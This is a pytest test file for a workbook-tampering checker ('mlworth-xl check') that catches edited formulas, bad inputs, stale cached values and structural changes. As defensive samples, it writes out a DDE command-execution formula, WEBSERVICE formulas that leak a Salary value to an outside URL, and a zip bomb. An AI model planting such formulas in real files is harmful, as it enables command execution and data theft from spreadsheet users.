"""``mlworth-xl check``: a generated workbook passes; every kind of tampering is caught.

The tampered files are made the way they happen: a client types a number
over a formula, edits a formula, types an input out of range; a spreadsheet
application stores results (cached values) that no longer match the inputs.
Cached values are edited in the file's XML, the way a stale or doctored
file holds them.

The workbook tampered with is generated once for the session (tests/conftest.py), and
loaded once here: each edit is typed into that one copy, saved to its own file and undone.
"""

from __future__ import annotations

import re
import shutil
import zipfile
from dataclasses import replace
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner
from openpyxl.utils import get_column_letter
from openpyxl.utils.cell import coordinate_to_tuple

from mlworth_xl.cli import main
from mlworth_xl.model import fields
from mlworth_xl.model.errors import InputError
from mlworth_xl.workbook import layout, write_workbook
from mlworth_xl.workbook.check import audit, normalize
from mlworth_xl.workbook.layout import Layout
from mlworth_xl.workbook.libreoffice import _worksheets

# whole workbooks: left out of the quick loop (README, Development)
pytestmark = pytest.mark.slow

LAY = Layout(8)  # the default comparison has eight options
ROW = LAY.summary_row(0)  # the first option's row on Summary (7)
PAY = get_column_letter(layout.SUMMARY_COL["payback_years"])  # "Payback if completed (years)"
NPV = get_column_letter(layout.SUMMARY_COL["npv"])
PAYBACK = f"Summary!{PAY}{ROW}"
# the first option's private-loan payment on Loans, and a cumulative net gain on Cash flows
PRIVATE_PAYMENT = f"{get_column_letter(layout.OPTION_COL)}{layout.LOANS_ROW['private_payment']}"
CUMULATIVE = f"{get_column_letter(Layout.cf_col(0, 'cumulative'))}{Layout.cf_row(4)}"


def run(*args: str):
    return CliRunner().invoke(main, list(args))


@pytest.fixture(scope="module")
def fresh(default_workbook) -> Path:
    """A workbook as `mlworth-xl workbook` writes it (no cached values), shared: never change it."""
    return default_workbook


@pytest.fixture(scope="module")
def calculated(default_recalculated) -> Path:
    """The same workbook opened, recalculated and saved by LibreOffice (cached values)."""
    return default_recalculated


@pytest.fixture(scope="module")
def fresh_book(fresh) -> openpyxl.Workbook:
    """``fresh`` loaded once, for :func:`edited`, which leaves it as it found it."""
    return openpyxl.load_workbook(fresh)


def edited(src: Path | openpyxl.Workbook, dest: Path, **cells) -> Path:
    """``src`` with cells set as a user would type them: ``Summary="J7=4.2"`` style pairs.

    ``src`` is a file or a workbook loaded from one (``fresh_book``): the edits are typed
    into it, it is saved to ``dest``, and the edits are undone (each cell's value and type
    put back, a cell that was not there removed).
    """
    wb = openpyxl.load_workbook(src) if isinstance(src, Path) else src
    undo = []
    try:
        for sheet, changes in cells.items():
            ws = wb[sheet.replace("_", " ")]
            for ref, value in changes.items():
                key = coordinate_to_tuple(ref)
                if key in ws._cells:
                    cell = ws._cells[key]
                    undo.append((ws, key, (cell._value, cell.data_type)))
                else:
                    undo.append((ws, key, None))
                ws[ref] = value
        wb.save(dest)
    finally:
        for ws, key, before in reversed(undo):
            if before is None:
                del ws._cells[key]
            else:
                ws._cells[key]._value, ws._cells[key].data_type = before
    return dest


def cached(src: Path, dest: Path, sheet: str, ref: str, value: str, kind: str = "n") -> Path:
    """``src`` with the cached result of formula cell ``sheet!ref`` set to ``value``."""
    shutil.copyfile(src, dest)
    with zipfile.ZipFile(src) as z:
        part = _worksheets(z)[sheet]
        parts = {i.filename: z.read(i) for i in z.infolist()}
    xml = parts[part]
    match = re.search(rb'<c r="' + ref.encode() + rb'"([^>]*?)>(.*?)</c>', xml, re.S)
    assert match is not None, ref
    formula = re.search(rb"<f\b.*?</f>", match.group(2), re.S)
    assert formula is not None, f"{sheet}!{ref} holds no formula"
    attrs = re.sub(rb'\st="[^"]*"', b"", match.group(1))
    kind_attr = b"" if kind == "n" else b' t="' + kind.encode() + b'"'
    cell = (
        b'<c r="'
        + ref.encode()
        + b'"'
        + attrs
        + kind_attr
        + b">"
        + formula.group(0)
        + b"<v>"
        + value.encode()
        + b"</v></c>"
    )
    parts[part] = xml[: match.start()] + cell + xml[match.end() :]
    with zipfile.ZipFile(dest, "w", zipfile.ZIP_DEFLATED) as out:
        for name, payload in parts.items():
            out.writestr(name, payload)
    return dest


# --- clean files ----------------------------------------------------------------------------


def test_a_freshly_generated_workbook_passes(fresh):
    result = run("check", str(fresh))
    assert result.exit_code == 0, result.stdout
    assert result.stdout == (
        f"{fresh}: OK, 8 options; checked formulas, inputs and error values "
        "(no cached results to compare: the file was never calculated)\n"
    )
    assert result.stderr == ""


def test_a_workbook_with_the_values_ironcalc_computed_passes(tmp_path):
    # `mlworth-xl workbook --ironcalc-values` stores IronCalc's values: the model's results
    path = write_workbook(tmp_path / "client.xlsx", computed=True)
    result = run("check", str(path))
    assert result.exit_code == 0, result.stdout
    assert result.stdout == (
        f"{path}: OK, 8 options; checked formulas, inputs, error "
        "values and results against the model\n"
    )


@pytest.mark.libreoffice
def test_a_workbook_recalculated_by_libreoffice_passes(calculated, soffice):
    # clean (exit 0, no finding listed), and its cached values compared ("results against
    # the model": Report.cached_values)
    result = run("check", str(calculated))
    assert result.exit_code == 0, result.stdout
    assert result.stdout == (
        f"{calculated}: OK, 8 options; checked formulas, inputs, error "
        "values and results against the model\n"
    )


def test_a_workbook_of_other_inputs_passes(random_workbook):
    path, programs, _ = random_workbook(0)  # every special case among random options
    assert len(programs) > 8
    assert audit(path).findings == []


# --- tampering ------------------------------------------------------------------------------


def test_a_formula_overwritten_with_a_number(fresh_book, tmp_path):
    path = edited(fresh_book, tmp_path / "t.xlsx", Summary={f"{PAY}{ROW}": 4.2})
    result = run("check", str(path))
    assert result.exit_code == 1
    lines = result.stdout.splitlines()
    assert lines[0].startswith(f"{path}: 1 problem in a workbook of 8 options")
    formula = fresh_book[layout.SUMMARY][f"{PAY}{ROW}"].value
    assert formula.startswith("=IF(MIN('Cash flows'!") and len(formula) > 80
    # formulas longer than 80 characters are shown by their first 77 and "..."
    assert lines[1] == (
        f"  {PAYBACK}: formula replaced by the number 4.2 (expected {formula[:77]}...)"
    )


def test_a_formula_overwritten_with_text(fresh_book, tmp_path):
    path = edited(fresh_book, tmp_path / "t.xlsx", Loans={PRIVATE_PAYMENT: "about 400"})
    [finding] = audit(path).findings
    assert str(finding).startswith(
        f"Loans!{PRIVATE_PAYMENT}: formula replaced by the text 'about 400' (expected =IF("
    )


def test_a_formula_deleted(fresh_book, tmp_path):
    path = edited(fresh_book, tmp_path / "t.xlsx", Cash_flows={"P20": None})
    [finding] = audit(path).findings
    assert finding.cell == "Cash flows!P20" and finding.message.startswith("formula deleted")


def test_a_formula_edited(fresh_book, tmp_path):
    npv = fresh_book[layout.SUMMARY][f"{NPV}{ROW}"].value
    assert npv.startswith("=NPV(DiscountRate,")  # the NPV column, as generated
    path = edited(
        fresh_book,
        tmp_path / "t.xlsx",
        Summary={f"{NPV}{ROW}": npv.replace("DiscountRate", "0.03")},
    )
    [finding] = audit(path).findings
    assert str(finding) == (
        f"Summary!{NPV}{ROW}: formula changed to "
        f"{npv.replace('DiscountRate', '0.03')} (expected {npv})"
    )


def test_a_formula_added_where_none_belongs(fresh_book, tmp_path):
    path = edited(fresh_book, tmp_path / "t.xlsx", Summary={"Z1": "=1+1"})
    assert [str(f) for f in audit(path).findings] == [
        "Summary!Z1: a formula where the generator writes none: =1+1"
    ]


def program(field: str, column: str = "C") -> tuple[str, str]:
    """Sheet and cell of an option's input: column C is option 1, D option 2, …"""
    return layout.PROGRAMS, f"{column}{layout.PROGRAM_ROW[field]}"


def person(field: str) -> tuple[str, str]:
    """Sheet and cell of a person input (column B of Inputs)."""
    return layout.INPUTS, f"B{layout.INPUTS_FIRST_ROW + list(fields.PERSON).index(field)}"


@pytest.mark.parametrize(
    ("where", "value", "message"),
    [
        (
            program("tuition_per_year"),
            -5,
            "tuition_per_year: -5 is out of range; allowed: a number from 0 to 500,000",
        ),
        (program("loan_apr", "D"), 7.94, "loan_apr: 7.94 looks like a percentage; enter 0.0794"),
        (
            program("years", "E"),
            300,
            "years: 300 is out of range; allowed: a number above 0 and at most 10",
        ),
        (program("kind"), "phd", "kind: 'phd' is not allowed; allowed: one of masters"),
        (program("name"), None, "name: is empty; every option needs a name"),
        (
            program("capitalize_interest"),
            "maybe",
            "capitalize_interest: 'maybe' is not TRUE or FALSE",
        ),
        (program("grace_months"), 6.5, "grace_months: 6.5 is not a whole number"),
        (person("salary"), "lots", "salary: 'lots' is not a number; allowed: a number from 0 to"),
        (person("salary"), 1e12, "salary: 1e+12 is out of range"),
        (person("salary"), None, "salary: is empty; allowed"),
        (
            person("horizon_years"),
            0,
            "horizon_years: 0 is out of range; allowed: a whole number from 1 to 80",
        ),
        (person("tax_rate"), "#N/A", "tax_rate: holds the error #N/A"),
    ],
)
def test_an_input_out_of_range(fresh_book, tmp_path, where, value, message):
    sheet, ref = where
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: value}})
    findings = audit(path).findings
    assert [f.cell for f in findings] == [f"{sheet}!{ref}"]
    assert findings[0].kind == "input" and message in findings[0].message


def test_inputs_allowed_alone_but_not_together(fresh_book, tmp_path):
    # a horizon of 1 year is allowed, but shorter than the 2-year programs
    sheet, ref = person("horizon_years")
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: 1}})
    findings = audit(path).findings
    assert findings and all(f.cell == f"{sheet}!{ref}" for f in findings)
    assert "horizon_years: 1 is shorter than the program" in findings[0].message


def test_an_input_typed_as_a_formula(fresh_book, tmp_path):
    sheet, ref = program("tuition_per_year")
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: "=52000*1.1"}})
    assert [str(f) for f in audit(path).findings] == [
        f"{sheet}!{ref}: input holds the formula =52000*1.1; the generator writes a value here"
    ]


def test_an_error_value(fresh, tmp_path):
    path = cached(fresh, tmp_path / "t.xlsx", layout.LOANS, PRIVATE_PAYMENT, "#DIV/0!", "e")
    result = run("check", str(path))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[1:] == [f"  Loans!{PRIVATE_PAYMENT}: shows the error #DIV/0!"]


def test_a_cached_result_that_disagrees_with_the_model(fresh, tmp_path):
    # the stored payback says 4.2 years; the model, from the same inputs, says otherwise
    path = cached(fresh, tmp_path / "t.xlsx", layout.SUMMARY, f"{PAY}{ROW}", "4.2")
    [finding] = audit(path).findings
    assert finding.cell == PAYBACK and finding.kind == "result"
    assert finding.message.startswith("shows 4.2 but the model gives ")
    assert finding.message.endswith(
        "for this workbook's inputs (Payback if completed (years) of "
        "'Carnegie Mellon MS in ML (in person)')"
    )


def test_a_cached_result_within_the_tolerance_passes(fresh, tmp_path):
    from mlworth_xl import compare

    npv = float(compare()["NPV if completed"][0])
    close = cached(
        fresh, tmp_path / "close.xlsx", layout.SUMMARY, f"{NPV}{ROW}", repr(npv * 1.0001)
    )
    assert [f.kind for f in audit(close).findings] == ["result"]  # 1e-4 off: caught
    exact = cached(
        fresh, tmp_path / "exact.xlsx", layout.SUMMARY, f"{NPV}{ROW}", f"{npv:.15g}"
    )  # 15 digits, as LibreOffice and Excel store them
    assert audit(exact).findings == []


@pytest.mark.libreoffice
def test_tampering_with_a_recalculated_workbook(calculated, tmp_path, soffice):
    stale = cached(calculated, tmp_path / "stale.xlsx", layout.CASH_FLOWS, CUMULATIVE, "123")
    assert [(f.cell, f.kind) for f in audit(stale).findings] == [
        (f"Cash flows!{CUMULATIVE}", "result")
    ]
    typed = edited(calculated, tmp_path / "typed.xlsx", Summary={f"{PAY}{ROW}": 4.2})
    assert [f.cell for f in audit(typed).findings] == [PAYBACK]


def test_many_problems_are_all_reported(fresh_book, tmp_path):
    path = edited(
        fresh_book,
        tmp_path / "t.xlsx",
        Summary={f"{PAY}{r}": 1 for r in range(7, 15)},
        Programs={"C8": -1},
    )
    result = run("check", str(path))
    assert result.exit_code == 1
    assert result.stdout.splitlines()[0].startswith(f"{path}: 9 problems")
    assert len(result.stdout.splitlines()) == 10


# --- files that are not comparison workbooks ------------------------------------------------


@pytest.mark.parametrize(
    ("make", "words"),
    [
        (lambda p: p.write_text("name,years\n"), "not an Excel .xlsx workbook"),
        (lambda p: p.write_bytes(b""), "the file is empty"),
        (lambda p: None, "file not found"),
    ],
)
def test_not_a_workbook_fails_cleanly(tmp_path, make, words):
    path = tmp_path / "client.xlsx"
    make(path)
    result = run("check", str(path))
    assert result.exit_code == 2
    assert result.stdout == ""
    assert (
        result.stderr
        == f"mlworth-xl: error: {path}: workbook: {words}"
        + (result.stderr[len(f"mlworth-xl: error: {path}: workbook: {words}") :])
    )
    assert result.stderr.count("\n") == 1


def test_a_wrong_extension(tmp_path):
    path = tmp_path / "client.csv"
    path.write_text("x")
    assert run("check", str(path)).stderr == (
        f"mlworth-xl: error: {path}: workbook: unknown file type '.csv'; allowed: .xlsx, .xlsm\n"
    )


def test_some_other_workbook(tmp_path):
    path = tmp_path / "budget.xlsx"
    openpyxl.Workbook().save(path)
    with pytest.raises(
        InputError,
        match="it has none of the sheets Inputs, Programs, Summary, "
        "Cash flows, Loans; this is not a comparison workbook",
    ):
        audit(path)
    result = run("check", str(path))
    assert result.exit_code == 2 and result.stderr.count("\n") == 1


def test_a_zip_bomb_is_refused(tmp_path):
    path = tmp_path / "bomb.xlsx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", "<workbook/>")
        z.writestr("xl/worksheets/sheet1.xml", b"\0" * 5_000_000)  # ~1000:1
    result = run("check", str(path))
    assert result.exit_code == 2
    assert "refused as a possible zip bomb" in result.stderr
    assert result.stderr.count("\n") == 1


def test_normalize_undoes_libreoffices_rewrites():
    assert normalize("=IF(A1,FALSE(),TRUE())") == normalize("=if(a1, FALSE, TRUE)")
    assert normalize('="Never"') != normalize('="never"')  # text literals keep their case


def test_a_workbook_without_the_risk_sheet_is_clean(tmp_path):
    """Regression: a workbook written with --no-risk was reported as missing a sheet."""
    path = tmp_path / "no-risk.xlsx"
    assert run("workbook", "-o", str(path), "--no-risk").exit_code == 0
    assert audit(path).findings == []


def test_an_option_switched_to_rap_without_a_block_is_an_input_problem(fresh_book, tmp_path):
    """Regression: only options on RAP when generated have a RAP block; check must say so."""
    sheet, ref = program("repayment_plan", "D")  # option 2; 2 is RAP (fields.PLANS)
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: 2}})
    findings = audit(path).findings
    assert [(f.cell, f.kind) for f in findings] == [(f"{sheet}!{ref}", "input")]
    assert findings[0].message.startswith(
        "repayment_plan: 2 (RAP), but this workbook has no block on the RAP sheet for this option."
    )
    assert "`mlworth-xl workbook --programs FILE`" in findings[0].message
    result = run("check", str(path))
    assert result.exit_code == 1 and f"{sheet}!{ref}: repayment_plan: 2 (RAP)" in result.stdout


def test_options_with_a_rap_block_may_leave_rap_and_others_may_not_join(tmp_path):
    from mlworth_xl.model.records import Programs

    records = Programs.default().records()[:3]
    records[1] = replace(records[1], repayment_plan=2)  # option 2 on RAP: one block
    # no Risk sheet: its values, simulated for the inputs as written, go stale when they change
    path = write_workbook(tmp_path / "rap.xlsx", Programs.from_records(records), risk=None)
    assert audit(path).findings == []
    # the block stays live: option 2 switched to fixed (0) is a workbook as generated for it,
    # but for the odds written with it (the model's median payback, expected NPV …), which the
    # Summary now says are out of date: one finding
    left = edited(
        path,
        tmp_path / "left.xlsx",
        **dict([(layout.PROGRAMS, {program("repayment_plan", "D")[1]: 0})]),
    )
    assert [(f.cell, f.kind) for f in audit(left).findings] == [(layout.ODDS, "value")]
    # option 3 has no block: switching it to RAP is reported, and nothing else
    sheet, ref = program("repayment_plan", "E")
    joined = edited(path, tmp_path / "joined.xlsx", **{sheet: {ref: 2}})
    assert [(f.cell, f.kind) for f in audit(joined).findings] == [(f"{sheet}!{ref}", "input")]


# --- what else the file vouches for: sheets, shapes, values, the Risk sheet -----------------


def check_lines(path: Path) -> tuple[int, list[str]]:
    result = run("check", str(path))
    assert "Traceback" not in result.output
    return result.exit_code, result.stdout.splitlines()


def reshaped(src: Path, dest: Path, change) -> Path:
    """``src`` after ``change(workbook)``: sheets added, renamed, deleted, rows inserted …"""
    wb = openpyxl.load_workbook(src)
    wb.security = None  # the structure lock, as a user lifts it before such a change
    change(wb)
    wb.save(dest)
    return dest


def _add_sheet(wb, formulas):
    ws = wb.create_sheet("Notes")
    for k, formula in enumerate(formulas, start=1):
        ws.cell(row=k, column=1, value=formula)


def test_an_added_sheet_and_its_formulas_are_reported(fresh, tmp_path):
    # DDE and web-service formulas: what a doctored file uses to run a command or leak data
    formulas = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.com/?"&Salary)']
    path = reshaped(fresh, tmp_path / "t.xlsx", lambda wb: _add_sheet(wb, formulas))
    code, lines = check_lines(path)
    assert code == 1
    assert lines[1:] == [
        "  Notes: a sheet the generator does not write; allowed: Guide, Inputs, Programs, "
        "Roles, Summary, Risk, Odds, Cash flows, Loans, Sources",
        "  Notes!A1: a formula where the generator writes none: =cmd|' /C calc'!A0",
        "  Notes!A2: a formula where the generator writes none: "
        '=WEBSERVICE("http://example.com/?"&Salary)',
    ]


@pytest.mark.parametrize(
    ("change", "finding"),
    [
        (
            lambda wb: setattr(wb[layout.SUMMARY], "title", "Results"),
            "Results: sheet 'Summary' renamed to 'Results'",
        ),
        (lambda wb: wb.remove(wb[layout.LOANS]), "Loans: sheet is missing"),
        (lambda wb: wb.remove(wb[layout.SOURCES]), "Sources: sheet is missing"),
        (
            lambda wb: wb.move_sheet(layout.SOURCES, offset=-9),
            "workbook: sheets in the order Sources, Guide, Inputs, Programs, Roles, Summary, "
            "Risk, Odds, Cash flows, Loans; the generator writes Guide, Inputs, Programs, Roles, "
            "Summary, Risk, Odds, Cash flows, Loans, Sources",
        ),
        (
            lambda wb: wb[layout.SUMMARY].insert_cols(3),
            "Summary!C:C: a column inserted at column C; the cells after it no longer are where "
            "the generator writes them (the sheet's cells are not compared one by one)",
        ),
        (lambda wb: wb[layout.LOANS].insert_rows(5), "Loans!5:5: a row inserted at row 5;"),
        # columns B to E hold cells in the same rows: deleting any one of them looks the same
        (
            lambda wb: wb[layout.CASH_FLOWS].delete_cols(4),
            "Cash flows!E:E: a column deleted among columns B to E;",
        ),
        (
            lambda wb: wb[layout.INPUTS].delete_rows(6),
            "Inputs!13:13: a row deleted among rows 4 to 13;",
        ),
    ],
    ids=[
        "renamed",
        "deleted",
        "deleted-last",
        "moved",
        "column-inserted",
        "row-inserted",
        "column-deleted",
        "row-deleted",
    ],
)
def test_a_changed_structure_is_a_finding_that_names_it(fresh, tmp_path, change, finding):
    code, lines = check_lines(reshaped(fresh, tmp_path / "t.xlsx", change))
    assert code == 1, lines
    assert lines[1].startswith("  " + finding), lines[:3]


def _risk_cell(key: str, option: int = 0) -> str:
    from mlworth_xl.workbook.risk_sheet import COLUMNS, FIRST_ROW

    k = next(k for k, c in enumerate(COLUMNS, start=1) if c.key == key)
    return f"{get_column_letter(k)}{FIRST_ROW + option}"


def test_an_edited_risk_probability_is_reported(fresh_book, tmp_path):
    ref = _risk_cell("target_probability")
    value = fresh_book["Risk"][ref].value
    assert 0 < value < 1  # a share of the 100,000 draws, as simulated
    path = edited(fresh_book, tmp_path / "t.xlsx", Risk={ref: 0.99})
    assert [str(f) for f in audit(path).findings] == [
        f"Risk!{ref}: holds the number 0.99; the generator writes the number {value:g}"
    ]


def test_edited_risk_draws_are_reported(fresh_book, tmp_path):
    # the stamp says 1,000 draws: the values, simulated with 100,000, are not those
    path = edited(fresh_book, tmp_path / "t.xlsx", Risk={"B4": 1000})
    [finding] = audit(path).findings
    assert finding.cell == "Risk" and finding.kind == "value"
    assert (
        "values differ from a simulation of this workbook's inputs with the draws and seed "
        "of its stamp" in finding.message
    )


@pytest.mark.parametrize(
    ("value", "shown"),
    [("lots", "the text 'lots'"), (10**9, "the number 1e+09"), (0.5, "the number 0.5")],
)
def test_a_risk_stamp_that_is_not_allowed_is_reported(fresh_book, tmp_path, value, shown):
    path = edited(fresh_book, tmp_path / "t.xlsx", Risk={"B4": value})
    assert [str(f) for f in audit(path).findings] == [
        f"Risk!B4: the stamp's draws: {shown} is not allowed; allowed: a whole number from 1 to "
        "10,000,000 (the Risk sheet's values are not checked)"
    ]


def test_a_formula_added_on_the_risk_sheet_is_reported(fresh_book, tmp_path):
    ref = _risk_cell("target_probability", 1)
    path = edited(fresh_book, tmp_path / "t.xlsx", Risk={ref: "=1-0"})
    assert [str(f) for f in audit(path).findings] == [
        f"Risk!{ref}: a formula where the generator writes none: =1-0"
    ]


def test_an_input_edited_leaves_the_risk_and_sources_sheets_stale_and_says_so(fresh_book, tmp_path):
    # 52,000 is the cited CMU tuition (Sources lists it): 60,000 is no cited figure
    sheet, ref = program("tuition_per_year")
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: 60_000}})
    findings = audit(path).findings
    # and the six odds written for the first option (chance, NPV, median payback, expected NPV,
    # P10, P90), counted in one finding
    from mlworth_xl.workbook import odds_sheet

    first = odds_sheet.scalar(0, "written_chance").replace("$", "")
    assert [f.cell for f in findings] == ["Risk", "Odds", "Sources"]
    assert findings[1].message.startswith(
        "6 values differ from the odds the model gives this workbook's inputs"
    ) and f"(first {first}:" in (findings[1].message)
    assert (
        " values differ from a simulation of this workbook's inputs with the draws and seed "
        "of its stamp" in findings[0].message
    )
    # the first cell that differs is the row of the cited tuition, which the edit drops: every
    # row below it moves up one
    from mlworth_xl.model.records import Person, Programs
    from mlworth_xl.workbook.sources_sheet import figures_used

    keys = [f.key for f in figures_used(Programs.default(), Person())]
    row = layout.SOURCES_FIRST_ROW + keys.index("tuition.cmu_ml_masters")
    assert f" values differ from the sources of this workbook's inputs (first Sources!A{row}: " in (
        findings[-1].message
    )
    assert all(
        f.message.endswith("run `mlworth-xl workbook` again to refresh it")
        for f in (findings[0], findings[-1])
    )


@pytest.mark.parametrize(
    ("sheet", "ref", "value", "message"),
    [
        # MonthsPerYear (Inputs, constants): the loan formulas divide by it
        (
            layout.INPUTS,
            f"B{layout.INPUTS_CONSTANT_ROW}",
            13,
            "holds the number 13; the generator writes the number 12",
        ),
        (
            layout.SUMMARY,
            "A1",
            "Results",
            "holds the text 'Results'; the generator writes the text",
        ),
        (layout.LOANS, "A5", None, "emptied; the generator writes the text"),
        (layout.GUIDE, "H3", "note", "holds the text 'note' where the generator writes nothing"),
    ],
)
def test_an_edited_value_that_is_no_input_is_reported(
    fresh_book, tmp_path, sheet, ref, value, message
):
    path = edited(fresh_book, tmp_path / "t.xlsx", **{sheet: {ref: value}})
    findings = audit(path).findings
    assert [(f.cell, f.kind) for f in findings] == [(f"{sheet}!{ref}", "value")]
    assert findings[0].message.startswith(message)


@pytest.mark.libreoffice
def test_an_edited_cached_value_on_loans_is_reported(calculated, tmp_path, soffice):
    # the need (simple financing) row: no model figure of its own; IronCalc's value (of the
    # workbook rebuilt from the file's inputs) is
    need = f"{get_column_letter(layout.OPTION_COL)}{layout.LOANS_ROW['need']}"
    path = cached(calculated, tmp_path / "t.xlsx", layout.LOANS, need, "123")
    [finding] = audit(path).findings
    assert finding.cell == f"Loans!{need}" and finding.kind == "result"
    assert finding.message.startswith("shows 123 but its formula gives ")
    assert finding.message.endswith("for this workbook's inputs (as IronCalc calculates it)")


# --- property: a generated file passes, any single edit is reported -------------------------


@pytest.fixture(scope="module")
def cells(fresh, fresh_book) -> dict[str, list[str]]:
    """The fresh workbook's cells that hold formulas and values that are no inputs, by sheet."""
    from mlworth_xl.workbook.check_run import Audit

    run_ = Audit(fresh)
    run_.read_inputs()
    found: dict[str, list[str]] = {}
    for ws in fresh_book.worksheets:
        for row in ws.iter_rows():
            for c in row:
                if (
                    c.value is not None
                    and type(c).__name__ == "Cell"
                    and f"{ws.title}!{c.coordinate}" not in run_.input_cells
                ):
                    found.setdefault(ws.title, []).append(c.coordinate)
    return found


def _cell_on_some_sheet(cells: dict[str, list[str]]):
    """A strategy: a sheet of ``cells`` first, then one of its cells, as (sheet, ref).

    Drawn among all the cells at once, nearly every example fell on the three big sheets
    (Odds, Cash flows, Loans: 94% of the 39,000 cells of the default workbook) and the small
    ones (labels, constants, sources, the Risk sheet's values) were rarely edited; drawn so,
    each sheet is as likely as any other.
    """
    from hypothesis import strategies as st

    return st.sampled_from(sorted(cells)).flatmap(
        lambda sheet: st.tuples(st.just(sheet), st.sampled_from(cells[sheet]))
    )


def _changed(value):
    if isinstance(value, bool):
        return not value
    if isinstance(value, int | float):
        return value + 1 if abs(value) < 1e6 else value * 1.01
    if isinstance(value, str) and value.startswith("="):
        return value + "+0"
    return f"{value} (edited)"


def test_property_any_generated_workbook_passes(tmp_path_factory):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    from tests.workbook_support import random_sets

    sets = random_sets(3, seed=7)
    folder = tmp_path_factory.mktemp("generated")

    @settings(max_examples=3, deadline=None, suppress_health_check=list(HealthCheck))
    @given(st.integers(0, len(sets) - 1), st.booleans())
    def passes(k, with_risk):
        programs, person = sets[k]
        path = write_workbook(
            folder / f"w{k}{with_risk}.xlsx",
            programs,
            person,
            force=True,
            risk=replace_risk(with_risk),
        )
        assert audit(path).findings == []

    passes()


def replace_risk(on: bool):
    from mlworth_xl.workbook.risk_sheet import RiskSettings

    return RiskSettings(draws=2_000, seed=11) if on else None


def test_property_any_single_edit_is_reported(fresh_book, cells, tmp_path_factory):
    from hypothesis import HealthCheck, given, settings

    folder = tmp_path_factory.mktemp("edits")

    # 12 edits, each on a sheet drawn first (_cell_on_some_sheet): the small sheets are
    # edited about as often as the big ones.
    @settings(max_examples=12, deadline=None, suppress_health_check=list(HealthCheck))
    @given(_cell_on_some_sheet(cells))
    def reported(where):
        sheet, ref = where
        before = fresh_book[sheet][ref].value
        edited(fresh_book, folder / "t.xlsx", **{sheet: {ref: _changed(before)}})
        findings = audit(folder / "t.xlsx").findings
        assert findings, where
        assert any(f.cell in (f"{sheet}!{ref}", sheet) for f in findings), (where, findings)

    reported()


@pytest.mark.libreoffice
def test_property_any_edited_cached_value_is_reported(calculated, tmp_path_factory, soffice):
    from hypothesis import HealthCheck, given, settings
    from hypothesis import strategies as st

    values = openpyxl.load_workbook(calculated, data_only=True)
    formulas = openpyxl.load_workbook(calculated)
    numeric: dict[str, list[str]] = {}
    for ws in formulas.worksheets:
        for row in ws.iter_rows():
            for c in row:
                value = values[ws.title][c.coordinate].value
                if (
                    c.data_type == "f"
                    and isinstance(value, int | float)
                    and not isinstance(value, bool)
                ):
                    numeric.setdefault(ws.title, []).append(c.coordinate)
    folder = tmp_path_factory.mktemp("cached")

    # An example edits a result on each sheet that holds numeric results (Summary, Roles,
    # Odds, Cash flows, Loans) and audits the file once: each must be reported.  Whether one
    # is does not depend on the others: a cached result is compared with the file's formula
    # calculated from its inputs (IronCalc), never with other cached results.  Each audit
    # calculates the workbook again, about 5 s: 3 examples check 15 cells, on every such
    # sheet, where 6 examples of one cell each mostly fell on the three big sheets.
    # derandomize: the same cells on every run (CI keeps no Hypothesis database), so a
    # failure there is one that can be run again.
    @settings(
        max_examples=3,
        derandomize=True,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(st.fixed_dictionaries({sheet: st.sampled_from(refs) for sheet, refs in numeric.items()}))
    def reported(where: dict[str, str]):
        path = calculated
        for k, (sheet, ref) in enumerate(where.items()):
            value = repr(_changed(values[sheet][ref].value))
            path = cached(path, folder / f"t{k}.xlsx", sheet, ref, value)
        cells = {f"{sheet}!{ref}" for sheet, ref in where.items()}
        assert cells <= {f.cell for f in audit(path).findings}

    assert sorted(numeric) == sorted(
        [layout.SUMMARY, layout.ROLES, layout.ODDS, layout.CASH_FLOWS, layout.LOANS]
    )
    reported()


def _renamed_target(wb):
    from openpyxl.workbook.defined_name import DefinedName

    wb.defined_names["DiscountRate"] = DefinedName("DiscountRate", attr_text="Inputs!$B$99")
    wb.defined_names["Leak"] = DefinedName("Leak", attr_text='WEBSERVICE("http://x")')


def test_a_defined_name_pointed_elsewhere_or_added_is_reported(fresh, fresh_book, tmp_path):
    original = fresh_book.defined_names["DiscountRate"].attr_text
    path = reshaped(fresh, tmp_path / "t.xlsx", _renamed_target)
    assert sorted(str(f) for f in audit(path).findings) == [
        f"name DiscountRate: refers to Inputs!$B$99; the generator writes {original}",
        'name Leak: a defined name the generator does not write: Leak = WEBSERVICE("http://x")',
    ]
